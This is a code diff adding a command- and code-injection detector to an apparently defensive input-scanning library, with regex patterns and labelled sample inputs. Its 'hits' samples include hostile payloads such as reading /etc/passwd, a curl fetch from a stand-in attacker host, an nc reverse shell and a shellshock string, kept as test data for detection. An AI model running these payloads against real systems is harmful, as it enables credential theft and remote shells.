@@ -1,0 +1,96 @@
+import { defineAttack } from '../define-attack.ts';
+import { commandsOf } from '../languages/shell/commands.ts';
+import { sign } from '../signs.ts';
+
+/** Functions of scripting languages that hand text to a shell or run it. */
+const runner =
+  /\b(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec|exec|execsync|spawn|spawnsync|phpinfo|os\.popen|os\.system|subprocess\.\w+|__import__|execfile|runtime\.getruntime\(\)\.exec|processbuilder|child_process)\(|\bgetruntime\b|<\?(?:php|=)|\brequire\s*\(\s*['"]child_process|\bimport\s*\(\s*['"]child_process|\beval\s*\(\s*(?:['"](?:ls|sleep|whoami|id|uname|cat|pwd)\b|\$_|base64_decode|gzinflate|str_rot13|request\b|compile)/i;
+
+/** Commands of a shell where a value belongs (CWE-78), and code that runs one (CWE-94). A word alone is none: it needs a separator, arguments, or both. */
+export const commandInjection = defineAttack({
+  id: 'command-injection',
+  title: 'Command and code injection',
+  cwe: 'CWE-78',
+  owasp: 'API8:2023',
+  gates: [sign.semicolon | sign.pipe | sign.ampersand | sign.backtick | sign.dollar | sign.lineBreak | sign.slash | sign.dash | sign.paren | sign.less | sign.backslash],
+  features: {
+    chained: 'begins a command behind a separator',
+    'chained-alone': 'begins a command behind a separator and ends',
+    substituted: 'puts a command where its output belongs',
+    arguments: 'gives a command its arguments',
+    'by-path': 'names a program by its path',
+    'bare-command': 'is a command with arguments',
+    'blank-variable': 'writes its blanks so that a filter does not see them',
+    'broken-word': 'writes a word so that a filter does not see it',
+    redirect: 'sends output to a file or the network',
+    shellshock: 'defines a function where an environment belongs (CVE-2014-6271)',
+    include: 'is a directive of server-side includes',
+    code: 'calls a function that runs what it is given',
+  },
+  look({ text, signs }, _field, note) {
+    for (const { lead, isCommon, hasArguments, hasPlainArguments, isAlone, isListed, isByPath, start, end } of commandsOf(text)) {
+      const isStrong = !isCommon || isByPath;
+      if (lead === 'start') {
+        if (hasPlainArguments && (isStrong || /^\s*(?:net|reg)\s/i.test(text) || /^\s*(?:cat|ping|echo|find|head|tail|nmap|dig|host|type|dir)\s+(?:-|\/|\\|\.\.|["'$]|[a-z]:|\d)/i.test(text))) note('bare-command', start, end);
+        else if (isByPath && isAlone) note('by-path', start, end);
+        continue;
+      }
+      if (lead === 'backtick') {
+        // Markdown writes names so: a command is nearly all of the text, or has what only a command has.
+        if (!/\w+\W+\w+\W+\w/.test(text.slice(0, start)) && (isStrong || hasArguments || isAlone) && !/\w+\W+\w+\W+\w/.test(text.slice(end, end + 200).split('`')[1] ?? ''))
+          note('substituted', start, end);
+        continue;
+      }
+      if (lead === 'pipe' && isListed && !isByPath && !hasPlainArguments) continue;
+      if (lead === 'substitution') {
+        if (isStrong || hasArguments || isAlone) note('substituted', start, end);
+      } else if (isStrong && ((lead !== 'ampersand' && lead !== 'line') || hasArguments || isAlone)) note('chained', start, end);
+      else if (hasPlainArguments) note('chained', start, end);
+      else if (isAlone && (lead !== 'ampersand' || start < 3) && (lead !== 'line' || start < 3) && !/\w\s+\S*\w\W*\s|[a-z];\s/i.test(text.slice(0, start + 1)))
+        note('chained-alone', start, end);
+      if (hasArguments) note('arguments', start, end);
+      if (isByPath) note('by-path', start, end);
+    }
+    if ((signs & sign.dollar) !== 0 && /\$\{?IFS\b/.test(text)) note('blank-variable', text.indexOf('IFS'), text.indexOf('IFS') + 3);
+    const broken = /\b(?:c['"\\]+a['"\\]*t|w['"\\]*h['"\\]+o['"\\]*a|\/[?*]+[a-z]*[?*]*\/[?*a-z]*[?*]|\$\{\w+:\d+:\d+\})/i.exec(text);
+    if (broken) note('broken-word', broken.index, broken.index + broken[0].length);
+    const redirect = />\s*(?:\/(?:tmp|dev|var|etc|root|home)\b|&\d)|\/dev\/(?:tcp|udp)\/|<\s*\/etc\//i.exec(text);
+    if (redirect) note('redirect', redirect.index, redirect.index + redirect[0].length);
+    if (/\(\)\s*\{\s*[^}]{0,40};?\s*\}\s*;/.test(text)) note('shellshock', text.indexOf('()'), text.length);
+    const include = /<!--#(?:exec|include|echo|config|printenv|set)\b/i.exec(text);
+    if (include) note('include', include.index, include.index + include[0].length);
+    const code = runner.exec(text);
+    if (code) note('code', code.index, code.index + code[0].length);
+  },
+  worst: (length) => ';id '.repeat(Math.ceil(length / 4)).slice(0, length),
+  samples: {
+    hits: [
+      '; cat /etc/passwd',
+      '127.0.0.1 && whoami',
+      '`id`',
+      '$(curl http://evil.example/x)',
+      'x|ls -la',
+      '() { :;}; /bin/bash -c id',
+      ';cat${IFS}/etc/passwd',
+      'ls -la /var/www',
+      '<!--#exec cmd="ls" -->',
+      "system('id')",
+      '| nc -e /bin/sh 10.0.0.1 4444',
+      '/bin/sh',
+    ],
+    misses: [
+      'Tom & Jerry',
+      'salt; find out more',
+      'cat',
+      'R&D and Marketing',
+      'ls 300 lexus',
+      'echo park; los angeles',
+      'read/write | admin',
+      'head & shoulders',
+      'sort by date; then by name',
+      'more than (10)',
+      'id',
+      'a;b;c',
+    ],
+  },
+});
